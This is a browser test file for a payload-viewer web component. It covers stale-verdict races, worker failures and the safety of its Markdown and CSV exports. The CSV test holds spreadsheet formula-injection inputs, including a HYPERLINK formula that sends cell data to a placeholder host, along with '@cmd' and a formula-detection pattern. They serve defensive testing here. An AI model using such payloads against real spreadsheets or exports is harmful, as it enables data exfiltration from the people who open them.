// What the page shows and reports is always about the text in the editor: results of a
// check that an edit has overtaken are dropped (in the worker and in the main-thread
// fallback), a failed check says so and the next one works, and the exports are the
// package's own renderings.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { summarize, validate } from 'cc-number-events';
import { openViewer, paste, resultsText, useServerAndBrowser, waitForReport } from './harness.mjs';
import { item } from './logs.mjs';
import * as examples from '../../www/viewer/examples.js';
import { eventFields } from '../../www/viewer/format.js';

const env = useServerAndBrowser();

/**
 * Records, from before the page loads, every cc-report (its verdict and whether the editor
 * then held the edited text) and every state of the results (dimmed as outdated or not, the
 * verdict's tone) with the same question, so a test can ask whether an old verdict was ever
 * shown or reported for the new text. `edited(text)` says whether `text` is the edited one.
 */
function recordVerdicts(edited) {
  return (page) => page.addInitScript((src) => {
    const isEdited = new Function('text', `return (${src})(text)`);
    window.__seen = { reports: [], shown: [], workerResults: [], editedAt: null };
    const editorText = (viewer) => viewer.shadowRoot.querySelector('textarea').value;
    document.addEventListener('cc-report', (e) => {
      window.__seen.reports.push({ valid: e.detail.valid, edited: isEdited(e.target.payload) });
    });
    const look = () => {
      const viewer = document.querySelector('cc-event-viewer');
      const results = viewer?.shadowRoot?.querySelector('.results');
      if (!results) return;
      const verdict = results.querySelector('.verdict');
      const tone = verdict?.classList.contains('valid') ? 'valid' : verdict?.classList.contains('invalid') ? 'invalid' : null;
      const outdated = results.getAttribute('aria-busy') === 'true' && results.classList.contains('outdated');
      const edited = isEdited(editorText(viewer));
      const last = window.__seen.shown.at(-1);
      if (!last || last.tone !== tone || last.outdated !== outdated || last.edited !== edited) window.__seen.shown.push({ tone, outdated, edited });
      if (edited && window.__seen.editedAt === null) window.__seen.editedAt = performance.now();
    };
    // Looked at after every DOM change and every input event, before anything paints.
    new MutationObserver(look).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
    document.addEventListener('DOMContentLoaded', () => {
      const viewer = document.querySelector('cc-event-viewer');
      new MutationObserver(look).observe(viewer.shadowRoot, { subtree: true, childList: true, attributes: true, characterData: true });
      viewer.shadowRoot.addEventListener('input', look);
    });
    // When each worker result arrives, to show the race really happened.
    const Native = window.Worker;
    if (Native) {
      window.Worker = class extends Native {
        constructor(...args) {
          super(...args);
          this.addEventListener('message', (e) => e.data?.type === 'result' && window.__seen.workerResults.push(performance.now()));
        }
      };
    }
  }, edited.toString());
}

/** The verdict seen for the edited text, if an old (valid) one was ever shown or reported. */
async function assertNoStaleVerdict(page) {
  const seen = await page.evaluate(() => window.__seen);
  for (const r of seen.reports) assert.ok(!(r.edited && r.valid), `cc-report said valid for the edited (invalid) text: ${JSON.stringify(seen.reports)}`);
  for (const s of seen.shown) assert.ok(!(s.edited && s.tone === 'valid' && !s.outdated), `the valid verdict was shown, not marked outdated, for the edited text: ${JSON.stringify(seen.shown)}`);
  return seen;
}

/** The worker, patched so a check of a text holding "Slow Lane" takes 1 s longer. */
const slowWorker = (page) =>
  page.route('**/worker.js', async (route) => {
    const r = await route.fetch();
    const body = (await r.text()).replace('await ready;',
      "await ready;\n    if (e.data.op !== 'render' && String(e.data.input).includes('Slow Lane')) for (const end = Date.now() + 1_000; Date.now() < end;);");
    assert.ok(body.includes('Slow Lane'), 'the worker was patched');
    await route.fulfill({ response: r, body });
  });

test('typing invalid text while a long valid check runs in the worker never shows or reports the old verdict', async (t) => {
  const valid = examples.valid.replace('"Washington, DC"', '"Washington, DC (Slow Lane)"');
  const invalid = valid.replace('"Created"', '"Createdx"');
  assert.equal(validate(valid).valid, true);
  assert.equal(validate(invalid).valid, false);
  const { context, page, problems } = await openViewer(env.browser, env.server.url, {
    beforeGoto: async (p) => {
      await recordVerdicts((text) => text.includes('"Createdx'))(p);
      await slowWorker(p);
    },
  });
  try {
    const editor = page.getByRole('textbox', { name: 'Payload' });
    const sent = await page.evaluate((text) => {
      document.querySelector('cc-event-viewer').payload = text; // the long valid check starts now
      return performance.now();
    }, valid);
    await editor.evaluate((ta, at) => ta.setSelectionRange(at, at), valid.indexOf('"Created"') + 8);
    // Typed while that check runs, a key every 100 ms for 1.5 s: the check ends mid-typing.
    await editor.pressSequentially('x'.repeat(15), { delay: 100 });
    await page.waitForFunction(() => window.__seen.reports.some((r) => r.edited), null, { timeout: 10_000 }).catch(async (e) => {
      throw new Error(`${e.message}: ${JSON.stringify(await page.evaluate(() => [window.__seen, document.querySelector('cc-event-viewer').payload.slice(0, 400)]))}`);
    });
    const seen = await assertNoStaleVerdict(page);
    // The race happened: the valid text's result came back after the edit, then the edited one's.
    const late = seen.workerResults.filter((at) => at > seen.editedAt);
    t.diagnostic(`edit ${Math.round(seen.editedAt - sent)} ms after the valid check began; ${late.length} worker results after it`);
    assert.ok(late.length >= 2, `the valid check was over before the edit: ${JSON.stringify(seen)}`);
    assert.deepEqual(seen.reports.map((r) => r.valid), [true, false], 'the example, then only the edited text');
    assert.ok(seen.shown.some((s) => s.edited && s.outdated), 'while the edited text waited, the old results were marked outdated');
    assert.match(await resultsText(page), /^Invalid/m);
    assert.equal(await page.evaluate(() => document.querySelector('cc-event-viewer').result.valid), false);
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
  }
});

test('without a worker, a check that an edit overtakes is dropped just the same', async (t) => {
  const invalid = examples.valid.replace('"Created"', '"Createdx"');
  assert.equal(validate(invalid).valid, false);
  const { context, page, problems, requests } = await openViewer(env.browser, env.server.url, {
    waitFirst: false,
    beforeGoto: async (p) => {
      await recordVerdicts((text) => text.includes('"Createdx'))(p);
      await p.addInitScript(() => {
        delete window.Worker; // the element falls back to checking on the main thread
      });
      // The module arrives late, so the first check is still running when the edit comes.
      await p.route('**/*.wasm', async (route) => {
        await new Promise((r) => setTimeout(r, 1_000));
        await route.continue();
      });
    },
  });
  try {
    await page.evaluate((text) => (document.querySelector('cc-event-viewer').payload = text), examples.valid);
    const editor = page.getByRole('textbox', { name: 'Payload' });
    await editor.evaluate((ta, at) => ta.setSelectionRange(at, at), examples.valid.indexOf('"Created"') + 8);
    // Typing goes on past the module's arrival, so the first checks end mid-typing.
    await editor.pressSequentially('x'.repeat(15), { delay: 100 });
    await page.waitForFunction(() => window.__seen.reports.some((r) => r.edited), null, { timeout: 30_000 });
    const seen = await assertNoStaleVerdict(page);
    t.diagnostic(`reports: ${JSON.stringify(seen.reports)}`);
    assert.ok(!requests.some((u) => u.endsWith('/worker.js')), 'no worker was started');
    assert.equal(seen.reports.at(-1).valid, false);
    assert.match(await resultsText(page), /^Invalid/m);
    // The fallback goes on working: the valid text again is valid again.
    await paste(page, examples.valid);
    assert.match(await resultsText(page), /^Valid/m);
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
  }
});

test('a check that fails in the worker says so clearly, and the next check works', async () => {
  const { context, page, problems } = await openViewer(env.browser, env.server.url, {
    beforeGoto: (p) =>
      // A worker whose module traps on one marked payload, as a wasm `unreachable` does.
      p.route('**/worker.js', async (route) => {
        const r = await route.fetch();
        const body = (await r.text()).replace('await ready;',
          "await ready;\n    if (String(e.data.input).includes('TRAP-HERE')) throw new WebAssembly.RuntimeError('unreachable');");
        assert.ok(body.includes('TRAP-HERE'), 'the worker was patched');
        await route.fulfill({ response: r, body });
      }),
  });
  try {
    await paste(page, examples.valid);
    const before = await page.evaluate(() => window.__ccReports);
    const editor = page.getByRole('textbox', { name: 'Payload' });
    await editor.focus();
    await page.evaluate(() => navigator.clipboard.writeText('{"TRAP-HERE": 1}'));
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.press('ControlOrMeta+V');
    const alert = page.locator('cc-event-viewer').getByRole('alert');
    await alert.waitFor({ timeout: 15_000 });
    const text = await alert.innerText();
    assert.match(text, /No verdict/);
    assert.match(text, /The validator failed while checking this text \(RuntimeError: unreachable\)/);
    assert.match(text, /not a verdict on the text/);
    assert.match(text, /restarted/);
    assert.equal(await page.evaluate(() => window.__ccReports), before, 'no cc-report for a failed check');
    assert.equal(await page.evaluate(() => document.querySelector('cc-event-viewer').result), null, 'no stale result either');
    // The next check runs in a fresh worker and works.
    await paste(page, examples.invalid);
    assert.match(await resultsText(page), /^Invalid/m);
    await paste(page, examples.valid);
    assert.match(await resultsText(page), /^Valid/m);
    assert.equal(await alert.count(), 0);
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
  }
});

/** Exports the shown result as `format` through the Copy button and returns the text. */
async function exported(page, format) {
  await page.getByRole('combobox', { name: 'Report format' }).selectOption(format);
  await page.evaluate(() => navigator.clipboard.writeText(''));
  await page.getByRole('button', { name: 'Copy' }).click();
  await page.waitForFunction(() => /^Copied/.test(document.querySelector('cc-event-viewer').shadowRoot.querySelector('[role=status]').textContent));
  return page.evaluate(() => navigator.clipboard.readText());
}

/** RFC 4180 cells of a CSV text, row by row. */
function csvRows(text) {
  const rows = [];
  let row = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(cell), rows.push(row), (row = []), (cell = '');
    } else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

/** A spreadsheet would run this cell as a formula (a signed number computes nothing). */
const formula = (cell) => /^ *[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]\d+$/.test(cell);

test('a location that would open a code fence cannot break the Markdown export; text, CSV and Markdown are the package’s', async () => {
  const payload = examples.valid.replace('"Washington, DC"', JSON.stringify('Washington, DC\r\r~~~\r')).replace('"Normal"', JSON.stringify('Normal ```'));
  const expected = validate(payload, { text: true, markdown: true, csv: true });
  assert.equal(expected.valid, true);
  const { context, page, problems } = await openViewer(env.browser, env.server.url);
  try {
    await paste(page, payload);
    assert.match(await resultsText(page), /^Valid/m);
    const md = await exported(page, 'markdown');
    assert.equal(md, expected.markdown);
    // No line opens a fence (``` or ~~~ at its start, after up to three spaces), and the
    // fields table is whole: every field a row, each with its two cells.
    for (const line of md.split(/\r\n|\r|\n/)) assert.doesNotMatch(line, /^ {0,3}(```|~~~)/, `a fence in ${JSON.stringify(line)}`);
    const table = md.slice(md.indexOf('| Field | Value |')).split('\n\n')[0].split('\n');
    assert.equal(table.length, 2 + eventFields(expected.event).length, `fields table:\n${table.join('\n')}`);
    for (const row of table) assert.equal(row.split(/(?<!\\)\|/).length, 4, `row ${JSON.stringify(row)}`);
    assert.ok(table.some((row) => row.startsWith('| Location | Washington, DC')), table.join('\n'));
    assert.equal(await exported(page, 'text'), expected.text);
    assert.equal(await exported(page, 'csv'), expected.csv);
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
  }
});

test('the CSV exports of a payload and of a log carrying formulas are defused', async () => {
  // A formula, then a line break and a tab that a spreadsheet could split a formula on.
  const evil = '=HYPERLINK("http://x.example/?"&A1,"click")\r@SUM(A1)\t';
  const payload = examples.valid.replace('"Normal"', JSON.stringify(evil));
  const log = [
    item({ i: 0 }),
    item({ i: 1, id: '900000000', eventType: 'Updated', status: evil }),
    item({ i: 2, id: '900000000', eventType: 'Updated', location: '+SUM(1,2)', status: '@cmd' }),
    item({ i: 3, id: '900000000', eventType: 'Updated', location: '-2+3', status: '\t=1+1' }),
  ].join('\n');
  const { context, page, problems } = await openViewer(env.browser, env.server.url);
  try {
    for (const [input, expected] of [[payload, validate(payload, { csv: true }).csv], [log, summarize(log, { csv: true }).csv]]) {
      await paste(page, input);
      const csv = await exported(page, 'csv');
      assert.equal(csv, expected);
      const rows = csvRows(csv);
      assert.ok(rows.length >= 2, csv);
      for (const row of rows) {
        for (const cell of row) {
          assert.ok(!formula(cell), `a formula cell ${JSON.stringify(cell)}`);
          assert.doesNotMatch(cell, /[\r\n\t]/, `a raw line break or tab in ${JSON.stringify(cell)}`);
        }
      }
      assert.ok(csv.includes('HYPERLINK'), 'the value is there, as text');
    }
    assert.deepEqual(problems, []);
  } finally {
    await context.close();
  }
});
